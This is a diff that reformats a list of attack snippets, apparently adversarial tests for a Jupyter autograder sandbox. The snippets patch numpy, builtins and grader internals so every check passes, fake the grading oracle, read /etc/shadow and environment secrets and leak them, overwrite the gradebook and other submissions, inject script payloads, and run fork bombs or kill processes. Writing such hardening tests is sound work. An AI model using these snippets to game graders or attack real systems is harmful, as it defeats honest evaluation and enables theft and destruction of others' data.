@@ -74,15 +74,26 @@ FIRST_ANSWER = {"03_jacobians_vjps": "numerical_jacobian"}
 
 ATTACKS = [
     # --- points for nothing: tampering with the kernel the tests used to run in -------------
-    Attack("input_transformer", "points", r'''
+    Attack(
+        "input_transformer",
+        "points",
+        r"""
 get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])
-'''),
-    Attack("run_cell_patched", "points", r'''
+""",
+    ),
+    Attack(
+        "run_cell_patched",
+        "points",
+        r"""
 _ip = get_ipython()
 _orig = _ip.run_cell
 _ip.run_cell = lambda *a, **k: _orig("pass", store_history=False)
-'''),
-    Attack("do_execute_patched", "points", r'''
+""",
+    ),
+    Attack(
+        "do_execute_patched",
+        "points",
+        r"""
 _kernel = get_ipython().kernel
 
 
@@ -91,27 +102,43 @@ async def _fake(*args, **kwargs):
 
 
 _kernel.do_execute = _fake
-'''),
-    Attack("displayhook_points", "points", r'''
+""",
+    ),
+    Attack(
+        "displayhook_points",
+        "points",
+        r"""
 _ip = get_ipython()
 _ip.events.register("pre_run_cell", lambda *a: _ip.displayhook(37))
 _sys.displayhook = lambda value: _ip.displayhook(37)
-'''),
-    Attack("numpy_patched", "points", r'''
+""",
+    ),
+    Attack(
+        "numpy_patched",
+        "points",
+        r"""
 import numpy
 numpy.allclose = lambda *a, **k: True
 numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
 numpy.array_equal = lambda *a, **k: True
 numpy.testing.assert_allclose = lambda *a, **k: None
-'''),
-    Attack("autograder_functions_patched", "points", r'''
+""",
+    ),
+    Attack(
+        "autograder_functions_patched",
+        "points",
+        r"""
 import autograder
 for _name in dir(autograder):
     if _name.startswith(("assert_", "check_")):
         setattr(autograder, _name, lambda *a, **k: None)
 autograder.GradingError = type("GradingError", (Exception,), {})
-'''),
-    Attack("autograder_internals_patched", "points", r'''
+""",
+    ),
+    Attack(
+        "autograder_internals_patched",
+        "points",
+        r"""
 import autograder.checking.verdicts as _v
 import autograder.checking.reference as _r
 import autograder.checking.checks as _c
@@ -119,23 +146,35 @@ _passed = _v.Verdict(True, "passed", "ok")
 _v.judge_gradients = lambda *a, **k: _passed
 _c.judge_gradients = lambda *a, **k: _passed
 _r.Reference.compare = lambda self, i, got: type("C", (), {"ok": True})()
-'''),
-    Attack("fake_autograder_module", "points", r'''
+""",
+    ),
+    Attack(
+        "fake_autograder_module",
+        "points",
+        r"""
 import types
 _fake = types.ModuleType("autograder")
 _fake.__getattr__ = lambda name: (lambda *a, **k: None)
 _sys.modules["autograder"] = _fake
 ag = _fake
-'''),
-    Attack("pre_run_cell_rebinds", "points", r'''
+""",
+    ),
+    Attack(
+        "pre_run_cell_rebinds",
+        "points",
+        r"""
 class _Anything:
     def __getattr__(self, name):
         return lambda *a, **k: None
 
 _ip = get_ipython()
 _ip.events.register("pre_run_cell", lambda *a: _ip.user_ns.update(ag=_Anything(), np=_Anything()))
-'''),
-    Attack("reads_callers_frames", "points", r'''
+""",
+    ),
+    Attack(
+        "reads_callers_frames",
+        "points",
+        r"""
 import gc
 import numpy
 
@@ -155,14 +194,23 @@ def _steal(*args, **kwargs):
 
 numerical_jacobian = exp_vjp = log_vjp = sigmoid_vjp = relu_vjp = sum_vjp = _steal
 mul_vjp = exp_jvp = log_jvp = mul_jvp = _steal
-''', where="solutions"),
-    Attack("builtins_patched", "points", r'''
+""",
+        where="solutions",
+    ),
+    Attack(
+        "builtins_patched",
+        "points",
+        r"""
 import builtins
 builtins.AssertionError = type("AssertionError", (Exception,), {})
 builtins.isinstance = lambda *a: True
 builtins.abs = lambda x: 0
-'''),
-    Attack("prewritten_oracle_replies", "points", r'''
+""",
+    ),
+    Attack(
+        "prewritten_oracle_replies",
+        "points",
+        r"""
 import json, struct
 _fd = int(_os.environ.get("AUTOGRADER_ORACLE_FD", "-1"))
 for _rid in range(1, 3000):
@@ -171,8 +219,12 @@ for _rid in range(1, 3000):
         _os.write(_fd, struct.pack(">II", len(_body), 0) + _body)
     except OSError:
         break
-'''),
-    Attack("fake_oracle", "points", r'''
+""",
+    ),
+    Attack(
+        "fake_oracle",
+        "points",
+        r"""
 import autograder.oracle.kernel_side as _ks
 from autograder.oracle.channel import Channel
 
@@ -187,8 +239,12 @@ def _fake_serve():
 
 
 _ks.serve = _fake_serve
-'''),
-    Attack("garbage_oracle", "points", r'''
+""",
+    ),
+    Attack(
+        "garbage_oracle",
+        "points",
+        r"""
 import autograder.oracle.kernel_side as _ks
 
 
@@ -198,20 +254,36 @@ def _garbage():
 
 
 _ks.serve = _garbage
-'''),
-    Attack("oracle_socket_closed", "points", r'''
+""",
+    ),
+    Attack(
+        "oracle_socket_closed",
+        "points",
+        r"""
 _os.close(int(_os.environ["AUTOGRADER_ORACLE_FD"]))
-'''),
-    Attack("serve_does_nothing", "points", r'''
+""",
+    ),
+    Attack(
+        "serve_does_nothing",
+        "points",
+        r"""
 import autograder.oracle.kernel_side as _ks
 _ks.serve = lambda: None
-'''),
-    Attack("signals_ignored", "points", r'''
+""",
+    ),
+    Attack(
+        "signals_ignored",
+        "points",
+        r"""
 import signal
 for _s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
     signal.signal(_s, signal.SIG_IGN)
-'''),
-    Attack("lying_array", "points", r'''
+""",
+    ),
+    Attack(
+        "lying_array",
+        "points",
+        r"""
 import numpy
 
 
@@ -232,8 +304,13 @@ def _liar(*args, **kwargs):
 
 numerical_jacobian = _liar
 exp_vjp = log_vjp = lambda *a, **k: (_liar(),)
-''', where="solutions"),
-    Attack("magic_object", "points", r'''
+""",
+        where="solutions",
+    ),
+    Attack(
+        "magic_object",
+        "points",
+        r"""
 class _Magic:
     shape = (3,)
     dtype = "float64"
@@ -258,8 +335,13 @@ class _Magic:
 
 
 exp_vjp = log_vjp = sigmoid_vjp = numerical_jacobian = lambda *a, **k: _Magic()
-''', where="solutions"),
-    Attack("raises_control_exceptions", "points", r'''
+""",
+        where="solutions",
+    ),
+    Attack(
+        "raises_control_exceptions",
+        "points",
+        r"""
 class KernelGone(BaseException):
     pass
 
@@ -272,8 +354,13 @@ exp_vjp = _raise
 log_vjp = lambda *a, **k: (_ for _ in ()).throw(SystemExit(0))
 sigmoid_vjp = lambda *a, **k: (_ for _ in ()).throw(KeyboardInterrupt())
 numerical_jacobian = lambda *a, **k: (_ for _ in ()).throw(GeneratorExit())
-''', where="solutions"),
-    Attack("huge_and_cyclic_returns", "points", r'''
+""",
+        where="solutions",
+    ),
+    Attack(
+        "huge_and_cyclic_returns",
+        "points",
+        r"""
 import numpy
 _cycle = []
 _cycle.append(_cycle)
@@ -281,8 +368,13 @@ exp_vjp = lambda *a, **k: (numpy.zeros(120_000_000),)
 log_vjp = lambda *a, **k: _cycle
 sigmoid_vjp = lambda *a, **k: {"k" * 100: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}
 numerical_jacobian = lambda *a, **k: numpy.array([object()])
-''', where="solutions"),
-    Attack("calls_back_the_tests", "points", r'''
+""",
+        where="solutions",
+    ),
+    Attack(
+        "calls_back_the_tests",
+        "points",
+        r"""
 _captured = []
 
 
@@ -295,9 +387,14 @@ def numerical_jacobian(f, x, h=1e-6):
             except BaseException:
                 pass
     raise NotImplementedError()
-''', where="solutions"),
+""",
+        where="solutions",
+    ),
     # --- reading what must stay hidden ---------------------------------------------------------
-    Attack("reads_course_through_proc", "reading", r'''
+    Attack(
+        "reads_course_through_proc",
+        "reading",
+        r"""
 _found = []
 for _pid in _os.listdir("/proc"):
     if _pid.isdigit():
@@ -307,20 +404,36 @@ for _pid in _os.listdir("/proc"):
         _found.append(_read(f"/proc/{_pid}/environ"))
 _found.append(str(_os.environ.get("JPY_PARENT_PID")))
 _leak("\n".join(_found))
-'''),
-    Attack("globs_the_filesystem", "reading", r'''
+""",
+    ),
+    Attack(
+        "globs_the_filesystem",
+        "reading",
+        r"""
 _paths = _find(["/**/source/**/*.ipynb", "/**/gradebook.db", "/**/submitted/**/*.ipynb", "/**/secret*.txt",
                 "/home/**/*", "/root/**/*", "/tmp/**/*", "/work/**/*.ipynb"], 100)
 _leak("\n".join(p + "\n" + _read(p, 100000) for p in _paths))
-'''),
-    Attack("reads_environment", "reading", r'''
+""",
+    ),
+    Attack(
+        "reads_environment",
+        "reading",
+        r"""
 _leak(dict(_os.environ))
 _leak(_read("/proc/self/environ") + _read("/proc/1/environ"))
-'''),
-    Attack("reads_system_secrets", "reading", r'''
+""",
+    ),
+    Attack(
+        "reads_system_secrets",
+        "reading",
+        r"""
 _leak(_read("/etc/shadow") + _read("/root/.bash_history") + _read("/etc/passwd") + str(_os.listdir("/")))
-'''),
-    Attack("network_out", "reading", r'''
+""",
+    ),
+    Attack(
+        "network_out",
+        "reading",
+        r"""
 _leak("hello from the kernel")
 for _host in ("127.0.0.1", "10.0.2.2", "8.8.8.8", "1.1.1.1"):
     try:
@@ -336,8 +449,12 @@ try:
     _u.sendto(b"LEAK", ("127.0.0.1", {port}))
 except Exception:
     pass
-'''),
-    Attack("exfiltrates_through_feedback", "reading", r'''
+""",
+    ),
+    Attack(
+        "exfiltrates_through_feedback",
+        "reading",
+        r"""
 _everything = "\n".join(_read(p, 20000) for p in _find(["/**/*.ipynb", "/**/*.db", "/**/*.txt"], 200))
 
 
@@ -347,9 +464,14 @@ def numerical_jacobian(f, x, h=1e-6):
 
 def exp_vjp(dldf, x):
     raise ValueError("\x1b[31m<script>alert(1)</script>" * 1000)
-''', where="solutions"),
+""",
+        where="solutions",
+    ),
     # --- harm to others ---------------------------------------------------------------------------
-    Attack("background_writer", "harm", r'''
+    Attack(
+        "background_writer",
+        "harm",
+        r"""
 _pid = _os.fork()
 if _pid == 0:
     _os.setsid()
@@ -363,8 +485,12 @@ if _pid == 0:
                 pass
         time.sleep(600)
     _os._exit(0)
-'''),
-    Attack("writes_the_gradebook", "harm", r'''
+""",
+    ),
+    Attack(
+        "writes_the_gradebook",
+        "harm",
+        r"""
 import sqlite3
 for _path in _find(["/**/gradebook.db", "../../../gradebook.db", "../../gradebook.db"], 20) + [
         "../../../gradebook.db", "/proc/1/cwd/gradebook.db"]:
@@ -379,15 +505,23 @@ for _path in _find(["/**/gradebook.db", "../../../gradebook.db", "../../gradeboo
         open(_path, "w").write("")
     except Exception:
         pass
-'''),
-    Attack("writes_other_submissions", "harm", r'''
+""",
+    ),
+    Attack(
+        "writes_other_submissions",
+        "harm",
+        r"""
 for _path in _find(["/**/submitted/**/*.ipynb", "/**/release/**/*.ipynb", "/**/source/**/*.ipynb"], 200):
     try:
         open(_path, "w").write("{}")
     except Exception:
         pass
-'''),
-    Attack("writes_the_environment", "harm", r'''
+""",
+    ),
+    Attack(
+        "writes_the_environment",
+        "harm",
+        r"""
 import site
 import autograder
 for _dir in set(site.getsitepackages() + [_os.path.dirname(_os.path.dirname(autograder.__file__))] + _sys.path):
@@ -401,8 +535,12 @@ for _root, _dirs, _files in _os.walk(_os.path.dirname(autograder.__file__)):
             open(_os.path.join(_root, _name), "a").write("\nraise SystemExit('pwned')\n")
         except Exception:
             pass
-'''),
-    Attack("attacks_other_kernels", "harm", r'''
+""",
+    ),
+    Attack(
+        "attacks_other_kernels",
+        "harm",
+        r"""
 _files = _find(["/run/**/*", "/tmp/**/*.json", "/proc/*/root/run/kernel/*", "/root/.local/share/jupyter/runtime/*",
                 "/proc/*/fd/*"], 100)
 _leak("\n".join(_files))
@@ -416,8 +554,12 @@ for _path in _files:
             _s.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b'{"code": "import os; os._exit(1)"}'])
         except Exception:
             pass
-'''),
-    Attack("script_in_outputs", "harm", r'''
+""",
+    ),
+    Attack(
+        "script_in_outputs",
+        "harm",
+        r"""
 from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display
 display(HTML("<script>document.title='pwned'</script><img src=x onerror=alert(1)>"))
 display(Javascript("alert('pwned')"))
@@ -425,13 +567,23 @@ display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>a
 display(Markdown("<script>alert(3)</script>"))
 display({"text/html": "<script>alert(4)</script>", "application/javascript": "alert(5)"}, raw=True)
 print("<script>alert(6)</script>")
-''', markdown="<script>alert(7)</script><img src=x onerror=alert(8)><b>pwned-markdown</b>"),
-    Attack("huge_error_message", "harm", r'''
+""",
+        markdown="<script>alert(7)</script><img src=x onerror=alert(8)><b>pwned-markdown</b>",
+    ),
+    Attack(
+        "huge_error_message",
+        "harm",
+        r"""
 def exp_vjp(dldf, x):
     raise ValueError("x" * 50_000_000)
-''', where="solutions"),
+""",
+        where="solutions",
+    ),
     # --- the grader itself ------------------------------------------------------------------------
-    Attack("kills_everything", "grader", r'''
+    Attack(
+        "kills_everything",
+        "grader",
+        r"""
 import signal
 for _sig in (signal.SIGKILL, signal.SIGTERM):
     try:
@@ -444,15 +596,25 @@ for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()] + [_os.getppid
             _os.kill(_pid, signal.SIGKILL)
         except Exception:
             pass
-''', where="function"),
-    Attack("fork_bomb", "grader", r'''
+""",
+        where="function",
+    ),
+    Attack(
+        "fork_bomb",
+        "grader",
+        r"""
 for _ in range(100000):
     try:
         _os.fork()
     except OSError:
         pass
-''', where="function"),
-    Attack("fills_the_disk", "grader", r'''
+""",
+        where="function",
+    ),
+    Attack(
+        "fills_the_disk",
+        "grader",
+        r"""
 for _dir in ("/tmp", _os.path.expanduser("~"), "/dev/shm", "/run/kernel", ".", "/var/tmp"):
     for _k in range(100):
         try:
@@ -461,8 +623,12 @@ for _dir in ("/tmp", _os.path.expanduser("~"), "/dev/shm", "/run/kernel", ".", "
                     _f.write(b"x" * 2**20)
         except Exception:
             break
-'''),
-    Attack("leaves_processes", "grader", r'''
+""",
+    ),
+    Attack(
+        "leaves_processes",
+        "grader",
+        r"""
 import subprocess
 for _ in range(3):
     if _os.fork() == 0:
@@ -475,12 +641,21 @@ try:
     subprocess.Popen(["sleep", "3600"], start_new_session=True)
 except Exception:
     pass
-'''),
-    Attack("stops_itself", "grader", r'''
+""",
+    ),
+    Attack(
+        "stops_itself",
+        "grader",
+        r"""
 import signal
 _os.kill(_os.getpid(), signal.SIGSTOP)
-''', where="function"),
-    Attack("ptrace_and_proc_mem", "grader", r'''
+""",
+        where="function",
+    ),
+    Attack(
+        "ptrace_and_proc_mem",
+        "grader",
+        r"""
 import ctypes
 _libc = ctypes.CDLL(None)
 for _pid in range(1, 200):
@@ -489,14 +664,28 @@ for _pid in range(1, 200):
         open(f"/proc/{_pid}/mem", "r+b")
     except Exception:
         pass
-'''),
-    Attack("exits_inside_a_test", "grader", r'''
+""",
+    ),
+    Attack(
+        "exits_inside_a_test",
+        "grader",
+        r"""
 _os._exit(3)
-''', where="function"),
-    Attack("memory_bomb_inside_a_test", "grader", r'''
+""",
+        where="function",
+    ),
+    Attack(
+        "memory_bomb_inside_a_test",
+        "grader",
+        r"""
 _bomb = bytearray(16 * 1024**3)
-''', where="function"),
-    Attack("cpu_threads", "grader", r'''
+""",
+        where="function",
+    ),
+    Attack(
+        "cpu_threads",
+        "grader",
+        r"""
 import threading
 import numpy
 
@@ -509,9 +698,13 @@ def _spin():
 
 for _ in range(64):
     threading.Thread(target=_spin, daemon=True).start()
-'''),
+""",
+    ),
     # --- the engine of assignment 05: handles, callbacks, provided code ---------------------------
-    Attack("tensor_lies", "points", r'''
+    Attack(
+        "tensor_lies",
+        "points",
+        r"""
 class _Lying(Tensor):
     def __eq__(self, other):
         return True
@@ -529,15 +722,25 @@ Tensor.__eq__ = lambda self, other: True
 Tensor.__hash__ = lambda self: 0
 Tensor.backward = lambda self, grad=None: None
 topological_order = lambda root: [root]
-''', assignment="05_tensor_engine"),
-    Attack("provided_code_replaced", "points", r'''
+""",
+        assignment="05_tensor_engine",
+    ),
+    Attack(
+        "provided_code_replaced",
+        "points",
+        r"""
 import numpy
 for _key, _op in list(TABLE.items()):
     TABLE[_key] = _op._replace(vjp=lambda g, *xs, **k: tuple(numpy.zeros_like(x) for x in xs))
 apply_op = lambda key, *args, **kwargs: args[0] if isinstance(args[0], Tensor) else Tensor(args[0])
 as_tensor = lambda x: x
-''', assignment="05_tensor_engine"),
-    Attack("keeps_test_callbacks", "points", r'''
+""",
+        assignment="05_tensor_engine",
+    ),
+    Attack(
+        "keeps_test_callbacks",
+        "points",
+        r"""
 _kept = []
 
 
@@ -553,10 +756,18 @@ def _keep(value):
 
 
 Tensor.__add__ = Tensor.__radd__ = Tensor.__mul__ = lambda self, other: _keep(other)
-''', where="solutions", assignment="05_tensor_engine"),
-    Attack("oracle_closed_engine", "points", r'''
+""",
+        where="solutions",
+        assignment="05_tensor_engine",
+    ),
+    Attack(
+        "oracle_closed_engine",
+        "points",
+        r"""
 _os.close(int(_os.environ["AUTOGRADER_ORACLE_FD"]))
-''', assignment="05_tensor_engine"),
+""",
+        assignment="05_tensor_engine",
+    ),
 ]
 
 assert len({a.name for a in ATTACKS}) == len(ATTACKS)
